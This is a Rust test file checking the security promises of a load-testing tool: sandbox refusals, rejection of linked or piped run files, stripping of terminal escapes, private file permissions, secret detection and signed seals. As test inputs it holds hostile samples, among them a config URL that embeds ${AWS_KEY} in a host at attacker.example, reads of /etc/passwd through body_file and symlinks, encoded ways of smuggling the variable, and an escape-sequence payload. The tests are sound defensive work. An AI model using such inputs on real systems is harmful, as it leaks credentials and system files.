//! The promises of SECURITY.md that take the built binary: what a stranger's files and other users may do, what a record holds,
//! and that an ordinary user needs no more rights than he has.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

mod rootless;

use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::Value;

use crate::harness::{self, Place, Running, beside_others, number};

/// A short run on the canary.
const SHORT: &str = r#"
name = "short"
system = { kind = "echo" }
load = { rate = "100/s", warmup = "0s", duration = "500ms" }
"#;

/// All files under a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        match entry.file_type().unwrap().is_dir() {
            true => found.extend(files(&entry.path())),
            false => found.push(entry.path()),
        }
    }
    found
}

fn run(place: &Place, experiment: &str) -> PathBuf {
    place.experiment(experiment);
    place.path().join(place.run_folder())
}

/// Claim: a variable of the environment never becomes part of a name that is looked up: checking and running such a file is
/// refused before anything is asked, and the value is not shown.
#[test]
fn no_environment_in_a_host_name() {
    let _beside = beside_others();
    let place = Place::new();
    let text = "[system]\nkind = \"http\"\n[system.deploy]\nurl = \"http://${AWS_KEY}.attacker.example/\"\n[load]\nrate = \"1/s\"\nduration = \"1s\"\n";
    place.write("stranger.toml", text);
    for words in [&["check", "stranger.toml"][..], &["run", "stranger.toml"]] {
        let said = harness::finish(place.command(words).env("AWS_KEY", "topsecretvalue"));
        said.expect_code(2).expect_stderr("expected a host name");
        assert!(!said.stderr.contains("topsecret") && !said.stdout.contains("topsecret"));
    }
}

/// Claim: `--sandbox` refuses an experiment that starts a program, reads files elsewhere or asks for the environment, however it
/// is written, and a run folder to go on with; it lets one run that does neither.
#[test]
fn sandbox() {
    let _beside = beside_others();
    let place = Place::new();
    let exec = "[system]\nkind = \"exec\"\n[system.deploy]\ncommand = [\"touch\", \"started\"]\n[load]\nrate = \"1/s\"\nduration = \"1s\"\n";
    let http = |more: &str| {
        format!(
            "[system]\nkind = \"http\"\n[system.deploy]\nurl = \"http://127.0.0.1:9/\"\n[workload]\n{more}\n[load]\nrate = \"1/s\"\nduration = \"1s\"\n"
        )
    };
    for (text, words) in [
        (exec.to_owned(), "starts no program"),
        (http("body_file = \"/etc/passwd\""), "only files beside the experiment"),
        (http("body = \"${HOME}\""), "reads no environment, and this asks for `HOME`"),
    ] {
        place.write("stranger.toml", text);
        for command in ["check", "run"] {
            place
                .assay(&[command, "stranger.toml", "--sandbox"])
                .expect_code(2)
                .expect_stderr(words);
        }
    }
    let with = |kind: &str, deploy: &str, workload: &str| {
        format!(
            "[system]\nkind = \"{kind}\"\n[system.deploy]\n{deploy}\n[workload]\n{workload}\n[load]\nrate = \"1/s\"\nduration = \"1s\"\n"
        )
    };
    let initdb = place.write("bin/initdb", "#!/bin/sh\ntouch started\n");
    std::fs::set_permissions(&initdb, std::fs::Permissions::from_mode(0o755)).unwrap();
    symlink("/etc/passwd", place.path().join("link")).unwrap();
    place.write("body.txt", "the key is ${AWS_KEY}");
    let escaped =
        r#"targets_text = '{"method":"GET","url":"/","header":{"X":["\u0024{AWS_KEY}"]}}'"#;
    // "${AWS_KEY}" in base64.
    let encoded = r#"targets_text = '{"method":"POST","url":"/","body":"JHtBV1NfS0VZfQ=="}'"#;
    let settings = "settings = { archive_mode = \"on\", archive_command = \"touch started\" }";
    let grpc = "url = \"grpc://127.0.0.1:9/\"";
    let asks = "reads no environment, and this asks for `AWS_KEY`";
    for (text, words) in [
        (with("postgres", "bin = \"bin\"", ""), "`bin` names or directs one"),
        (with("postgres", settings, ""), "`settings` names or directs one"),
        (http(escaped), asks),
        (http(encoded), asks),
        (http("method = \"POST\"\nbody_file = \"body.txt\""), asks),
        (http("targets_text = \"POST /\\n@body.txt\""), asks),
        (with("grpc", grpc, "method = \"a.B/C\"\nmessage_file = \"link\""), "is a link"),
        (http("data = \"link\""), "is a link"),
    ] {
        place.write("stranger.toml", text);
        for command in ["check", "run"] {
            let mut command = place.command(&[command, "stranger.toml", "--sandbox"]);
            let said = harness::finish(command.env("AWS_KEY", "topsecretvalue"));
            said.expect_code(2).expect_stderr(words);
            assert!(!said.stderr.contains("topsecret") && !said.stdout.contains("topsecret"));
        }
    }
    let folder = run(&place, SHORT).display().to_string();
    let said = place.assay(&["run", "--resume", &folder, "--sandbox"]);
    said.expect_code(2).expect_stderr("cannot be used with");
    assert!(!place.path().join("started").exists());
    let (said, document) = place.experiment_with(SHORT, &["--sandbox"]);
    assert!(number(&document["settings"][0]["trials"][0]["counts"]["due"]) > 10, "{}", said.stderr);
}

/// Claim: a run folder from a stranger, in which a file is a link to one of the system's, or a pipe, is refused at once, and
/// nothing of the linked file is shown.
#[test]
fn a_strangers_run_folder() {
    let _beside = beside_others();
    let place = Place::new();
    let folder = run(&place, SHORT);
    let name = folder.display().to_string();
    let page = place.path().join("report.html").display().to_string();
    let report = ["report", &name, "--format=html", "-o", &page];
    place.assay(&report).expect_code(0);
    let experiment = folder.join("experiment.toml");
    std::fs::remove_file(&experiment).unwrap();
    symlink("/etc/passwd", &experiment).unwrap();
    let said = place.assay(&report);
    said.expect_code(1).expect_stderr("got a link").expect_stderr("NOT AS IT WAS SEALED");
    assert!(!std::fs::read_to_string(&page).unwrap().contains("root:x:0"));
    std::fs::remove_file(&experiment).unwrap();
    std::fs::write(&experiment, SHORT).unwrap();
    let trial = files(&folder).into_iter().find(|path| path.ends_with("trial.json")).unwrap();
    std::fs::remove_file(&trial).unwrap();
    let (fifo, mode) = (rustix::fs::FileType::Fifo, rustix::fs::Mode::RWXU);
    rustix::fs::mknodat(rustix::fs::CWD, &trial, fifo, mode, 0).unwrap();
    place.assay(&report).expect_code(1).expect_stderr("got a pipe");
}

/// Claim: escape sequences that a stranger wrote into a record, whatever reads it, reach no terminal.
#[test]
fn no_escape_reaches_a_terminal() {
    let _beside = beside_others();
    let place = Place::new();
    let folder = run(&place, SHORT);
    let trial = files(&folder).into_iter().find(|path| path.ends_with("trial.json")).unwrap();
    let whole: Value = serde_json::from_slice(&std::fs::read(&trial).unwrap()).unwrap();
    let name = folder.display().to_string();
    for pointer in ["/schema", "/declared/clocks", "/declared/series/0/aggregate"] {
        let mut changed = whole.clone();
        let Some(value) = changed.pointer_mut(pointer) else { continue };
        *value = "\u{1b}]0;PWNED\u{7}\u{1b}[2J".into();
        std::fs::write(&trial, changed.to_string()).unwrap();
        let said = place.assay(&["report", &name, "--color=always"]);
        for text in [&said.stdout, &said.stderr] {
            assert!(
                !text.contains("\u{1b}]") && !text.contains("\u{1b}[2J"),
                "{pointer}: {text:?}"
            );
        }
    }
}

/// Claim: nodes get what any program needs, and neither the user's tokens nor settings of the load; whatever the umask, every
/// file of a run is its owner's alone, and no file of the record says where it lay.
#[test]
fn a_run_keeps_to_itself() {
    let _beside = beside_others();
    let place = Place::new();
    place.write("long.toml", SHORT.replace("500ms", "3s"));
    let file = place.path().join("long.toml").display().to_string();
    let runs = place.path().join("runs").display().to_string();
    let words = ["run", &file, "--runs", &runs, "--progress=none", "--no-calibration"];
    let mut command = place.started_by(&["sh", "-c", "umask 0; exec \"$@\"", "sh"], &words);
    command.env("MYTOKEN", "a-token-of-mine").env("AWS_SECRET_ACCESS_KEY", "another-of-mine");
    let running = Running::start(&mut command);
    let node = harness::until(Duration::from_secs(60), || {
        let all = harness::processes_of(place.path());
        all.into_iter().find(|process| process.command.contains("serve echo"))
    });
    let node = node.expect("a node is started");
    let environ = std::fs::read(format!("/proc/{}/environ", node.id)).unwrap_or_default();
    let environ = String::from_utf8_lossy(&environ);
    assert!(environ.contains("PATH=") && !environ.contains("of-mine"), "{environ}");
    running.finish();
    let folder = place.path().join(place.run_folder());
    for path in files(&folder) {
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o7777;
        assert_eq!(mode & 0o077, 0, "{}: {mode:o}", path.display());
    }
    let place_name = place.path().display().to_string();
    for name in ["environment.json", "summary.json", "report.html", "report.md", "plan.toml"] {
        let text = std::fs::read_to_string(folder.join(name)).unwrap();
        assert!(!text.contains(&place_name), "{name} says where the run lay");
    }
}

/// Claim: no private key that was made for a trial stays in its folder, so that `--check-secrets` passes; what it looked for is
/// said.
#[test]
fn no_key_stays() {
    let _beside = beside_others();
    let place = Place::new();
    let folder = run(
        &place,
        "[system]\nkind = \"kv\"\n[load]\nrate = \"50/s\"\nwarmup = \"0s\"\nduration = \"1s\"\n",
    );
    assert!(folder.join("settings/default/trial-0/nodes").is_dir());
    let name = folder.display().to_string();
    let said = place.assay(&["report", &name, "--check-secrets"]);
    said.expect_code(0).expect_stdout("no secret").expect_stdout("percent-encoded");
}

/// Claim: `--check-secrets` finds a secret however a server wrote it back: each byte percent-encoded, escaped, as references, in
/// other case, reversed, without its last character.
#[test]
fn check_secrets_knows_every_form() {
    let _beside = beside_others();
    let place = Place::new();
    let folder = run(&place, SHORT);
    let secret = "Zq7xKp2mWv9-TopSecret";
    let each = |f: &dyn Fn(u8) -> String| secret.bytes().map(f).collect::<String>();
    let name = folder.display().to_string();
    for text in [
        each(&|byte| format!("%{byte:02X}")),
        each(&|byte| format!("\\u{byte:04x}")),
        each(&|byte| format!("&#{byte};")),
        secret.to_uppercase(),
        secret.chars().rev().collect(),
        secret[..secret.len() - 1].to_owned(),
    ] {
        std::fs::write(folder.join("said"), format!("the server said {text}!")).unwrap();
        let mut command = place.command(&["report", &name, "--check-secrets"]);
        let said = harness::finish(command.env("MY_TOKEN", secret));
        said.expect_code(1).expect_stdout("the value of MY_TOKEN");
        assert!(!said.stdout.contains(secret), "{}", said.stdout);
    }
}

/// Claim: a run is sealed when it ends; a signature by a key of minisign's says who measured, a change of any file or another
/// key is told, and the report says whether the files are those that were sealed.
#[test]
fn sealed_and_signed() {
    let _beside = beside_others();
    let place = Place::new();
    let folder = run(&place, SHORT);
    let name = folder.display().to_string();
    let seal = |words: &[&str]| place.assay(&[&["seal"], words, &[name.as_str()]].concat());
    let pair = |name: &str| {
        let pair = minisign::KeyPair::generate_unencrypted_keypair().unwrap();
        let public = place.write(&format!("{name}.pub"), pair.pk.to_box().unwrap().into_string());
        let secret =
            place.write(&format!("{name}.key"), pair.sk.to_box(None).unwrap().into_string());
        [public, secret].map(|path| path.display().to_string())
    };
    let ([public, secret], [other, _]) = (pair("mine"), pair("other"));
    seal(&[]).expect_code(0).expect_stdout("as they were sealed");
    seal(&["--verify", &public]).expect_code(1).expect_stderr("not signed");
    seal(&["--sign", &secret]).expect_code(0).expect_stdout("signed");
    seal(&["--verify", &public]).expect_code(0).expect_stdout("signed by this key");
    seal(&["--verify", &other]).expect_code(1).expect_stderr("not by this key");
    place.assay(&["report", &name]).expect_code(0).expect_stderr("are as they were sealed");
    let summary = folder.join("summary.json");
    let text = std::fs::read_to_string(&summary).unwrap();
    std::fs::write(&summary, text.replace("short", "shorn")).unwrap();
    seal(&["--verify", &public]).expect_code(1).expect_stderr("summary.json: changed");
    place.assay(&["report", &name]).expect_code(0).expect_stderr("summary.json: changed");
}
